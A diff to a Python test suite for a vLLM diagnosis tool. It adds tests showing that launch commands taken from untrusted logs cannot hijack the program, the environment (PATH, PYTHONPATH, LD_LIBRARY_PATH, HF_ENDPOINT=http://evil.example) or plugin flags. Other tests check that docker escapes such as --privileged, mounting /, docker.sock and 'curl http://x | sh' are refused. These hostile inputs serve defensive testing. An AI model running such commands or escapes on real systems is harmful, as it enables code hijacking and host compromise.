@@ -84,13 +84,25 @@ def fake_servers(port: int) -> list[psutil.Process]:
     return processes_mentioning("vllm.entrypoints.openai.api_server", str(port))
 
 
+@pytest.fixture(autouse=True)
+def operator_env(monkeypatch):
+    """The operator's own environment finds the fake vLLM: a launch's PYTHONPATH never reaches the child."""
+    monkeypatch.setenv("PYTHONPATH", str(FAKE_VLLM))
+    monkeypatch.delenv("VDIAG_VLLM_PYTHON", raising=False)
+
+
+# the fake's own switches are not on the policy's allowlist: the tests let them through as an operator would
+FAKE_ALLOW = ["--allow-env", "FAKE_VLLM_WHEN", "--allow-env", "FAKE_VLLM_PIDFILE", "--allow-env", "FAKE_VLLM_DUMP"]
+
+
 def fake_launch(port: int, when: dict | None = None, extra_env: str = "") -> str:
-    env = f"PYTHONPATH={FAKE_VLLM} " + (f"FAKE_VLLM_WHEN='{json.dumps(when)}' " if when else "") + extra_env
+    env = (f"FAKE_VLLM_WHEN='{json.dumps(when)}' " if when else "") + extra_env
     return f"{env} vllm serve M --max-model-len 4096 --port {port}"
 
 
-def run_verify(log: Path, launch: str | None, *extra: str, python: str = sys.executable, fmt: str = "json"):
-    args = ["verify", "--yes", "--no-gpu", "--vllm-python", python, "--format", fmt, *extra]
+def run_verify(log: Path, launch: str | None, *extra: str, python: str | None = sys.executable, fmt: str = "json"):
+    args = ["verify", "--yes", "--no-gpu", *(["--vllm-python", python] if python else []), "--format", fmt, *FAKE_ALLOW,
+            *extra]
     if launch:
         args += ["--launch", launch]
     result = CliRunner().invoke(main, [*args, str(log)], catch_exceptions=False)
@@ -151,7 +163,7 @@ def test_interrupting_vdiag_stops_the_child_group(sig, max_len_log, marker):
     port = free_port()
     launch = fake_launch(port, {"--max-model-len=512": "hang"})
     cli = [sys.executable, "-c", "from diagnose.cli import main; main()", "verify", "--yes", "--no-gpu",
-           "--vllm-python", sys.executable, "--launch", launch, str(max_len_log)]
+           "--vllm-python", sys.executable, *FAKE_ALLOW, "--launch", launch, str(max_len_log)]
     vdiag = subprocess.Popen(cli, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT)
     deadline = time.monotonic() + 20
     while not fake_servers(port) and time.monotonic() < deadline:
@@ -319,11 +331,11 @@ def test_plain_vllm_launches_are_accepted(text):
 
 
 def test_vllm_serve_runs_through_the_given_interpreter_as_the_api_server():
-    argv, env, notes = build_argv(parse_launch("HF_HOME=/data vllm serve M --max_model_len=4096 --enforce-eager"),
+    argv, env, notes = build_argv(parse_launch("CUDA_VISIBLE_DEVICES=1 vllm serve M --max_model_len=4096 --enforce-eager"),
                                   {"--max-model-len": "512"}, python="/venv/bin/python")
     assert argv == ["/venv/bin/python", "-m", "vllm.entrypoints.openai.api_server", "--model", "M", "--max_model_len=512",
                     "--enforce-eager"]
-    assert env["HF_HOME"] == "/data" and notes == []
+    assert env["CUDA_VISIBLE_DEVICES"] == "1" and notes == []
 
 
 def test_llm_python_call_is_verified_as_the_equivalent_server_and_says_so():
@@ -409,3 +421,225 @@ def test_real_vllm_failures_are_fixed_served_and_stopped(name, expected_change, 
             _verify_real(name, tiny_model, tmp_path, monkeypatch, expected_change, port=taken.getsockname()[1])
         return
     _verify_real(name, tiny_model, tmp_path, monkeypatch, expected_change)
+
+
+# ---------------------------------------------------------------- the trust boundary (issue #15)
+
+FAKE_BIN = FAKE_VLLM / "bin"
+
+
+@pytest.fixture
+def evil(tmp_path) -> Path:
+    """A directory a hostile log points at: a `vllm`, a `python3` and a sitecustomize.py that leave a mark if run."""
+    folder = tmp_path / "evil"
+    folder.mkdir()
+    mark = tmp_path / "evil-ran"
+    for name in ("vllm", "python3"):
+        (folder / name).write_text(f"#!/bin/sh\ntouch {mark}\n")
+        (folder / name).chmod(0o755)
+    (folder / "sitecustomize.py").write_text(f"open({str(mark)!r}, 'w').close()\n")
+    return folder
+
+
+def test_hostile_log_cannot_choose_the_program_the_environment_or_plugins(evil, max_len_log, tmp_path, monkeypatch):
+    monkeypatch.setenv("PATH", f"{FAKE_BIN}{os.pathsep}{os.environ['PATH']}")
+    dump, port = tmp_path / "dump.json", free_port()
+    hostile = (f"PATH={evil}:$PATH PYTHONPATH={evil} PYTHONWARNINGS=error LD_LIBRARY_PATH={evil} "
+               f"VLLM_LOGGING_CONFIG_PATH={evil}/log.json HF_ENDPOINT=http://evil.example VLLM_PLUGINS=evil "
+               f"CUDA_VISIBLE_DEVICES=0 FAKE_VLLM_DUMP={dump} "
+               f"{evil}/vllm serve M --max-model-len 4096 --port {port} --tool-parser-plugin {evil}/p.py "
+               f"--logits-processors evil.Proc --worker-extension-cls evil.Ext --middleware evil.mw")
+    result, report = run_verify(max_len_log, hostile, python=None)
+    assert result.exit_code == 0, result.output
+    assert not (tmp_path / "evil-ran").exists(), "code chosen by the log ran"
+    seen = json.loads(dump.read_text())
+    assert seen["entry"] == str(FAKE_BIN / "vllm")  # the operator's vllm, found on vdiag's own PATH
+    # vdiag's own PATH (a pyenv shim in front of python3 may prepend to it), never the log's
+    assert seen["env"]["PATH"].endswith(os.environ["PATH"]) and str(evil) not in seen["env"]["PATH"]
+    assert seen["env"]["PYTHONPATH"] == str(FAKE_VLLM)
+    for name in ("PYTHONWARNINGS", "VLLM_LOGGING_CONFIG_PATH", "HF_ENDPOINT", "VLLM_PLUGINS"):
+        assert name not in seen["env"], name
+    assert str(evil) not in seen["env"].get("LD_LIBRARY_PATH", "")
+    assert seen["env"]["CUDA_VISIBLE_DEVICES"] == "0"
+    assert not [w for w in seen["argv"] if "evil" in w], seen["argv"]
+    said = " ".join(report["notes"] + report["attempts"][0]["notes"])
+    for name in ("PATH", "PYTHONPATH", "PYTHONWARNINGS", "LD_LIBRARY_PATH", "VLLM_LOGGING_CONFIG_PATH", "HF_ENDPOINT",
+                 "VLLM_PLUGINS", "--tool-parser-plugin", "--logits-processors", "--worker-extension-cls", "--middleware"):
+        assert re.search(rf"(?<![\w-]){re.escape(name)} \(", said), name
+    assert f"program {evil}/vllm is not run; verify runs the operator's own vllm" in said
+    assert report["attempts"][0]["ran"].startswith(f"CUDA_VISIBLE_DEVICES=0 FAKE_VLLM_DUMP={dump} {FAKE_BIN / 'vllm'} serve M ")
+    assert str(evil) not in report["attempts"][0]["ran"] and str(evil) not in report["working_command"]
+
+
+def test_allow_env_lets_the_operator_pass_a_dropped_variable(max_len_log, tmp_path):
+    dump = tmp_path / "dump.json"
+    launch = f"FAKE_VLLM_DUMP={dump} PYTHONWARNINGS=ignore {fake_launch(free_port())}"
+    result, _ = run_verify(max_len_log, launch, "--allow-env", "PYTHONWARNINGS")
+    assert result.exit_code == 0, result.output
+    assert json.loads(dump.read_text())["env"]["PYTHONWARNINGS"] == "ignore"
+
+
+def test_interpreter_path_from_the_log_is_replaced_by_the_operators(evil, tmp_path):
+    operator_bin = tmp_path / "bin"
+    operator_bin.mkdir()
+    (operator_bin / "python3").symlink_to(sys.executable)
+    argv, env, notes = build_argv(parse_launch(f"{evil}/python3 -m vllm.entrypoints.openai.api_server --model M"), {},
+                                  environ={"PATH": str(operator_bin)})
+    assert argv == [str(operator_bin / "python3"), "-m", "vllm.entrypoints.openai.api_server", "--model", "M"]
+    assert env == {"PATH": str(operator_bin)}
+    assert notes == [f"the launch's program {evil}/python3 is not run; the operator's {operator_bin / 'python3'} runs instead"]
+
+
+def test_only_allowlisted_variables_reach_the_child():
+    launch = parse_launch("PATH=/x PYTHONPATH=/x PYTHONSTARTUP=/x/s.py LD_LIBRARY_PATH=/x HF_ENDPOINT=http://e "
+                          "VLLM_LOGGING_CONFIG_PATH=/x/l.json VLLM_NCCL_SO_PATH=/x/n.so NCCL_NET_PLUGIN=evil "
+                          "HF_HOME=/x UNKNOWN_THING=1 CUDA_VISIBLE_DEVICES=0,1 VLLM_ATTENTION_BACKEND=FLASH_ATTN "
+                          "NCCL_DEBUG=INFO HF_TOKEN=t HF_HUB_OFFLINE=1 TOKENIZERS_PARALLELISM=false OMP_NUM_THREADS=4 "
+                          "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True vllm serve M")
+    _argv, env, notes = build_argv(launch, {}, python="py", environ={"PATH": "/usr/bin"})
+    assert env == {"PATH": "/usr/bin", "CUDA_VISIBLE_DEVICES": "0,1", "VLLM_ATTENTION_BACKEND": "FLASH_ATTN",
+                   "NCCL_DEBUG": "INFO", "HF_TOKEN": "t", "HF_HUB_OFFLINE": "1", "TOKENIZERS_PARALLELISM": "false",
+                   "OMP_NUM_THREADS": "4", "PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True"}
+    [note] = notes
+    for name in ("PATH", "PYTHONPATH", "PYTHONSTARTUP", "LD_LIBRARY_PATH", "HF_ENDPOINT", "VLLM_LOGGING_CONFIG_PATH",
+                 "VLLM_NCCL_SO_PATH", "NCCL_NET_PLUGIN", "HF_HOME"):
+        assert f" {name} (selects code or endpoints)" in note or note.startswith(f"dropped from the launch's environment: {name} (")
+    assert "UNKNOWN_THING (not on the allowlist)" in note and "--allow-env NAME" in note
+
+
+def test_code_loading_flags_are_dropped_unless_the_operator_allows_one():
+    text = ("vllm serve M --tool-parser-plugin /x/p.py --reasoning-parser-plugin /x/r.py --logits-processors a.B "
+            "--worker-extension-cls a.E --middleware a.m --trust-remote-code --chat-template /x/t.jinja "
+            "--kv-transfer-config '{\"kv_connector\": \"X\", \"kv_connector_module_path\": \"evil\"}' --max-model-len 512")
+    argv, _env, [note] = build_argv(parse_launch(text), {}, python="py")
+    assert argv == ["py", "-m", "vllm.entrypoints.openai.api_server", "--model", "M", "--chat-template", "/x/t.jinja",
+                    "--max-model-len", "512"]
+    for flag in ("--tool-parser-plugin", "--reasoning-parser-plugin", "--logits-processors", "--worker-extension-cls",
+                 "--middleware", "--trust-remote-code", "--kv-transfer-config"):
+        assert f"{flag} (" in note
+    argv, _env, _notes = build_argv(parse_launch("vllm serve M --trust-remote-code"), {}, python="py",
+                                    allow_flags=["--trust-remote-code"])
+    assert argv[-1] == "--trust-remote-code"
+
+
+def test_llm_call_is_verified_as_the_openai_server_and_the_report_says_so(max_len_log):
+    launch = 'llm = LLM(model="M", max_model_len=4096, enforce_eager=True)'
+    result, report = run_verify(max_len_log, launch)
+    assert result.exit_code == 0, result.output
+    assert report["status"] == "verified"
+    assert any("LLM(...) call; verified as the equivalent OpenAI server" in n for n in report["notes"])
+    assert "-m vllm.entrypoints.openai.api_server --model M" in report["attempts"][0]["ran"]
+
+
+def test_the_bundled_example_is_verified(monkeypatch):
+    monkeypatch.setenv("PATH", f"{FAKE_BIN}{os.pathsep}{os.environ['PATH']}")
+    monkeypatch.setenv("FAKE_VLLM_POSITIONS", "262144")
+    result, report = run_verify(ROOT / "examples" / "kv-cache-too-small.log", None, python=None)
+    assert result.exit_code == 0, result.output
+    assert "--max-model-len 33792" in report["working_command"]
+    assert report["attempts"][0]["ran"].startswith("VLLM_PP_LAYER_PARTITION=16,32 CUDA_DEVICE_ORDER=PCI_BUS_ID "
+                                                   f"CUDA_VISIBLE_DEVICES=0,1 {FAKE_BIN / 'vllm'} serve ")
+
+
+# ---------------------------------------------------------------- docker
+
+
+@pytest.fixture
+def docker_here(monkeypatch, tmp_path) -> dict[str, str]:
+    import diagnose.verify_argv as verify_argv
+
+    monkeypatch.setattr(verify_argv, "docker_available", lambda: True)
+    (tmp_path / "docker").write_text("#!/bin/sh\n")
+    (tmp_path / "docker").chmod(0o755)
+    return {"PATH": str(tmp_path)}
+
+
+def test_docker_launch_keeps_model_and_drops_what_escapes_cleanup(docker_here):
+    text = ("/x/docker run -d --rm --gpus all -p 8000:8000 --ipc=host -v ~/.cache/huggingface:/root/.cache/huggingface "
+            "-e HF_TOKEN=t -e PYTHONPATH=/x --env-file /etc/x vllm/vllm-openai:v0.9.0 --model M --max-model-len 4096")
+    argv, _env, notes = build_argv(parse_launch(text), {"--max-model-len": "512"}, environ=docker_here)
+    assert argv == [f"{docker_here['PATH']}/docker", "run", "--rm", "--gpus", "all", "-p", "8000:8000", "--ipc=host", "-v",
+                    "~/.cache/huggingface:/root/.cache/huggingface", "-e", "HF_TOKEN=t", "vllm/vllm-openai:v0.9.0",
+                    "--model", "M", "--max-model-len", "512"]
+    said = " ".join(notes)
+    assert "PYTHONPATH (selects code" in said and "-d (runs detached" in said and "--env-file (" in said
+    assert "/x/docker is not run" in said
+
+
+DOCKER_REFUSED = {
+    "privileged": ("--privileged", "--privileged"),
+    "host-root": ("-v /:/host", "mounts the host path /"),
+    "host-root-equals": ("--volume=/:/host", "mounts the host path /"),
+    "mount-root": ("--mount type=bind,source=/,target=/host", "mounts the host path /"),
+    "docker-sock": ("-v /var/run/docker.sock:/s", "docker.sock"),
+    "entrypoint": ("--entrypoint /bin/sh", "--entrypoint"),
+    "pid-host": ("--pid=host", "--pid=host"),
+    "cap-add": ("--cap-add SYS_ADMIN", "--cap-add"),
+    "disk-device": ("--device /dev/sda", "not a GPU device"),
+}
+
+
+@pytest.mark.parametrize("option, said", list(DOCKER_REFUSED.values()), ids=list(DOCKER_REFUSED))
+def test_docker_sandbox_escapes_are_refused(option, said, docker_here):
+    with pytest.raises(VdiagError, match=re.escape(said)):
+        build_argv(parse_launch(f"docker run --gpus all {option} vllm/vllm-openai:latest --model M"), {}, environ=docker_here)
+
+
+@pytest.mark.parametrize("after", ["bash -c 'curl http://x | sh'", "/bin/sh -c id", "-c id"])
+def test_docker_shell_after_the_image_is_refused(after, docker_here):
+    with pytest.raises(VdiagError, match="refusing to verify"):
+        build_argv(parse_launch(f"docker run --gpus all vllm/vllm-openai:latest {after}"), {}, environ=docker_here)
+
+
+def test_docker_image_that_is_not_vllm_is_refused(docker_here):
+    with pytest.raises(VdiagError, match="not a known vLLM image"):
+        build_argv(parse_launch("docker run --gpus all evil/image vllm serve M"), {}, environ=docker_here)
+
+
+def test_docker_escape_in_a_log_is_refused_before_anything_runs(tmp_path, monkeypatch):
+    monkeypatch.setattr(subprocess, "Popen", _no_popen)
+    launch = "docker run --privileged -v /:/host --entrypoint /bin/sh vllm/vllm-openai:latest -c 'chroot /host id'"
+    log = tmp_path / "x.log"
+    log.write_text(MAX_LEN_LOG)
+    result = CliRunner().invoke(main, ["verify", "--yes", "--no-gpu", "--launch", launch, str(log)])
+    assert result.exit_code == ExitCode.VERIFY_FAILED, result.output
+    assert "refusing to verify: docker --privileged" in result.output
+
+
+# ---------------------------------------------------------------- cleanup of processes that left the group
+
+
+def test_double_forked_child_in_its_own_session_is_stopped_and_reported(max_len_log, marker, tmp_path):
+    pidfile = tmp_path / "stray.pid"
+    launch = fake_launch(free_port(), {"--max-model-len=512": "double-fork"}, extra_env=f"FAKE_VLLM_PIDFILE={pidfile} ")
+    result, report = run_verify(max_len_log, launch)
+    assert result.exit_code == 0, result.output
+    stray = int(pidfile.read_text())
+    cleanup = report["attempts"][0]["cleanup"]
+    assert cleanup["survivors"] == [] and cleanup["outside_group"] == [stray]
+    assert any(f"left the server's process group: {stray}" in n for n in report["attempts"][0]["notes"])
+    assert not psutil.pid_exists(stray) or psutil.Process(stray).status() == psutil.STATUS_ZOMBIE
+    assert not processes_with_marker(marker)
+
+
+def test_survivors_list_names_a_process_that_could_not_be_stopped(tmp_path, monkeypatch):
+    import diagnose.verify_cleanup as verify_cleanup
+
+    pidfile = tmp_path / "stray.pid"
+    script = ("import os, time\nif os.fork() == 0:\n    os.setsid()\n    pid = os.fork()\n"
+              "    if pid == 0:\n        os.execvp('sleep', ['sleep', '600'])\n"
+              f"    open({str(pidfile)!r}, 'w').write(str(pid))\n    os._exit(0)\ntime.sleep(600)\n")
+    descendants = verify_cleanup.Descendants()
+    proc = subprocess.Popen([sys.executable, "-c", script], env=descendants.child_env(dict(os.environ)), start_new_session=True)
+    deadline = time.monotonic() + 10
+    while not pidfile.exists() or not pidfile.read_text():
+        assert time.monotonic() < deadline
+        time.sleep(0.05)
+    stray = int(pidfile.read_text())
+    monkeypatch.setattr(verify_cleanup, "send", lambda process, sig: None)  # strays ignore every signal
+    try:
+        cleanup = verify_cleanup.stop_all(proc, descendants, (0.3, 0.3, 0.3))
+        assert cleanup.survivors == [stray] and cleanup.outside_group == [stray]
+        assert proc.returncode is not None
+    finally:
+        os.kill(stray, signal.SIGKILL)
